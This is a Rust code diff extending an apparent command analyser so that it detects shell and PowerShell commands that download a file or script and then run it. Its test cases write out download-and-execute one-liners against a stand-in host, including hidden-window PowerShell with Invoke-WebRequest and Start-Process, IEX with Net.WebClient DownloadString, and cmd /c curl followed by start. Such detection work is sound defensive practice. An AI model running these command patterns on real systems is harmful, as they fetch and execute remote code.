@@ -37,6 +37,12 @@ struct Step {
     piped: bool,
 }
 
+/// Whether a command runs what it fetches itself, by a pipe into what runs it or by its name.
+#[must_use]
+pub fn command_runs_fetched(command: &str) -> bool {
+    read(command).runs_fetched
+}
+
 /// Takes a command apart.
 pub(super) fn read(command: &str) -> Facts {
     let mut facts = Facts::default();
@@ -64,9 +70,12 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
         others = others.saturating_add(usize::from(!handles_files(&name)));
         facts.runs_fetched |= fetches && is_interpreter;
         facts.runs_decoded |= decodes && is_interpreter;
-        if runs_file(&name, program, rest, &facts.fetched) {
+        let evaluates = evaluates_fetched(&name, rest);
+        facts.sends |= evaluates;
+        if evaluates || runs_file(&name, program, rest, &facts.fetched) {
             facts.runs_fetched = true;
         }
+        method_fetches(&step.words, facts);
         let fetched = fetch(&name, rest, facts);
         if is_python(&name) {
             if let Some(code) = option(rest, &["-c"]) {
@@ -74,15 +83,9 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
             }
         } else if is_interpreter
             && depth < DEEPEST
-            && let Some(at) = rest
-                .iter()
-                .position(|w| matches!(w.as_str(), "-c" | "/c" | "/C" | "/k"))
+            && let Some(at) = inner_command(&name, rest)
         {
-            let inner: Vec<&str> = rest
-                .iter()
-                .skip(at.saturating_add(1))
-                .map(String::as_str)
-                .collect();
+            let inner: Vec<String> = rest.iter().skip(at).map(|w| quoted(w)).collect();
             read_within(&inner.join(" "), facts, depth.saturating_add(1));
         }
         if matches!(name.as_str(), "echo" | "printf") && step.piped {
@@ -95,6 +98,78 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
         decodes = step.piped && (decoder(&name, rest) || decodes && passes_on(&name));
     }
     facts.handles_files = others == 0;
+}
+
+/// A word as it is written in a command: an address keeps its signs together.
+fn quoted(word: &str) -> String {
+    let one = word.contains("://") && !word.contains([' ', '"']);
+    if one {
+        format!("\"{word}\"")
+    } else {
+        word.to_owned()
+    }
+}
+
+/// Where the command begins that a shell is given.
+fn inner_command(name: &str, words: &[String]) -> Option<usize> {
+    let is = |w: &String| matches!(w.to_ascii_lowercase().as_str(), "-c" | "/c" | "/k" | "-command");
+    if let Some(at) = words.iter().position(is) {
+        return Some(at.saturating_add(1));
+    }
+    if !matches!(name, "powershell" | "pwsh") {
+        return None;
+    }
+    // It takes what is no option for the command.
+    let mut at = 0_usize;
+    while let Some(word) = words.get(at).filter(|w| w.starts_with('-')) {
+        let takes = ["-w", "-ex", "-ep", "-v"]
+            .iter()
+            .any(|o| word.to_ascii_lowercase().starts_with(o));
+        at = at.saturating_add(if takes { 2 } else { 1 });
+    }
+    (at < words.len()).then_some(at)
+}
+
+/// Whether a command of PowerShell evaluates what it fetches: `iex (iwr https://…)`.
+fn evaluates_fetched(name: &str, words: &[String]) -> bool {
+    let evaluates = |word: &str| matches!(word, "iex" | "invoke-expression");
+    let lower = |word: &String| word.to_ascii_lowercase();
+    let plain = |word: &String| lower(word).trim_matches(['(', ')', '&']).to_owned();
+    let at = if evaluates(name.split('(').next().unwrap_or(name)) {
+        Some(0)
+    } else {
+        words.iter().position(|w| evaluates(&plain(w)))
+    };
+    at.is_some_and(|_| {
+        words.iter().any(|w| {
+            matches!(
+                plain(w).as_str(),
+                "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "curl" | "wget"
+            ) || lower(w).contains("downloadstring(")
+                || lower(w).contains("downloaddata(")
+        })
+    })
+}
+
+/// A file that a method of .NET fetches: `(New-Object Net.WebClient).DownloadFile('https://…', 'x.exe')`.
+fn method_fetches(words: &[String], facts: &mut Facts) {
+    let all = words.join(" ");
+    let lower = all.to_ascii_lowercase();
+    let Some(at) = lower.find("downloadfile(") else {
+        return;
+    };
+    facts.sends = true;
+    let given = all
+        .get(at..)
+        .and_then(|t| t.split_once('('))
+        .map_or("", |(_, rest)| rest);
+    let given = given.split(')').next().unwrap_or_default();
+    if let Some((_, to)) = given.split_once(',') {
+        let to = to.trim().trim_matches(['"', '\'']);
+        if !to.is_empty() && !facts.fetched.iter().any(|f| f == to) {
+            facts.fetched.push(to.to_owned());
+        }
+    }
 }
 
 /// The programs of a command, with their words.
@@ -181,7 +256,23 @@ fn without_prefix(words: &[String]) -> &[String] {
         });
         let only_starts = matches!(
             name.as_str(),
-            "sudo" | "nohup" | "exec" | "start" | "command" | "time" | "setsid" | "then" | "do" | "(" | "{"
+            "sudo"
+                | "nohup"
+                | "exec"
+                | "start"
+                | "command"
+                | "time"
+                | "setsid"
+                | "then"
+                | "do"
+                | "("
+                | "{"
+                | "call"
+                | "start-process"
+                | "saps"
+                | "invoke-item"
+                | "ii"
+                | "-filepath"
         );
         let option_of_start = first.starts_with('/') && first.len() == 2;
         if !(assigns || only_starts || option_of_start && rest.len() < words.len()) {
@@ -295,12 +386,21 @@ fn option<'w>(words: &'w [String], names: &[&str]) -> Option<&'w str> {
     words.get(at.saturating_add(1)).map(String::as_str)
 }
 
+/// The same for programs to which capitals are nothing.
+fn option_of_any_case<'w>(words: &'w [String], names: &[&str]) -> Option<&'w str> {
+    let at = words
+        .iter()
+        .position(|w| names.contains(&w.to_ascii_lowercase().as_str()))?;
+    words.get(at.saturating_add(1)).map(String::as_str)
+}
+
 fn is_address(word: &str) -> bool {
     word.contains("://") || word.starts_with("git@")
 }
 
 /// What a program fetches or tells; says whether it prints what it fetched.
 fn fetch(name: &str, words: &[String], facts: &mut Facts) -> bool {
+    let name = name.trim_start_matches('(');
     let address = words.iter().find(|w| is_address(w)).map(String::as_str);
     match name {
         "curl" | "wget" | "wget2" | "aria2c" | "http" | "invoke-webrequest" | "iwr" | "irm"
@@ -325,7 +425,7 @@ fn fetch(name: &str, words: &[String], facts: &mut Facts) -> bool {
                 "wget" | "wget2" => option(words, &["-O", "-qO", "--output-document", ">"])
                     .map(str::to_owned)
                     .or_else(|| named.filter(|_| !words.iter().any(|w| w.ends_with("O-")))),
-                _ => option(words, &["-outfile", "-OutFile", "-o", "-out", ">"]).map(str::to_owned),
+                _ => option_of_any_case(words, &["-outfile", "-o", "-out", ">"]).map(str::to_owned),
             };
             match to {
                 Some(to) if to != "-" && !to.starts_with("/dev/") => {
@@ -431,8 +531,13 @@ fn runs_file(name: &str, program: &str, words: &[String], fetched: &[String]) ->
     if fetched.is_empty() {
         return false;
     }
+    let runs = interprets(name)
+        || matches!(
+            name,
+            "rundll32" | "regsvr32" | "wscript" | "cscript" | "msiexec" | "dotnet" | "java"
+        );
     let makes_run = name == "chmod" && words.iter().any(|w| w.contains('x') || w.starts_with('7'));
-    same(program) || (interprets(name) || makes_run) && words.iter().any(|w| same(w))
+    same(program) || (runs || makes_run) && words.iter().any(|w| same(w))
 }
 
 #[cfg(test)]
@@ -452,6 +557,35 @@ mod tests {
             (
                 "curl https://drop.example/x -o /tmp/run -H \"a: $(whoami)\"",
                 "sends /tmp/run",
+            ),
+            (
+                "powershell -w hidden -Command \"Invoke-WebRequest -Uri https://drop.example/x -OutFile x.exe; Start-Process x.exe\"",
+                "sends runs x.exe",
+            ),
+            (
+                "powershell Invoke-WebRequest -Uri \"https://drop.example/x.exe?a=1&b=2\" -OutFile \"~/w.exe\"; Invoke-Expression \"~/w.exe\"",
+                "sends runs ~/w.exe",
+            ),
+            ("powershell iex (iwr https://drop.example/p)", "sends runs"),
+            (
+                "powershell -nop IEX (New-Object Net.WebClient).DownloadString('https://drop.example/p')",
+                "sends runs",
+            ),
+            (
+                "powershell (New-Object Net.WebClient).DownloadFile('https://drop.example/x','x.exe'); start x.exe",
+                "sends runs x.exe",
+            ),
+            (
+                "cmd /c curl https://drop.example/x -o x.exe && start x.exe",
+                "sends runs x.exe",
+            ),
+            (
+                "powershell Invoke-WebRequest https://data.example/x -OutFile data.zip",
+                "sends data.zip",
+            ),
+            (
+                "curl -LO https://data.example/x.csv && start notes.txt",
+                "sends x.csv",
             ),
             ("curl -LO https://data.example/x.csv", "sends x.csv"),
             ("wget https://data.example/x.tgz && tar xf x.tgz", "sends x.tgz"),
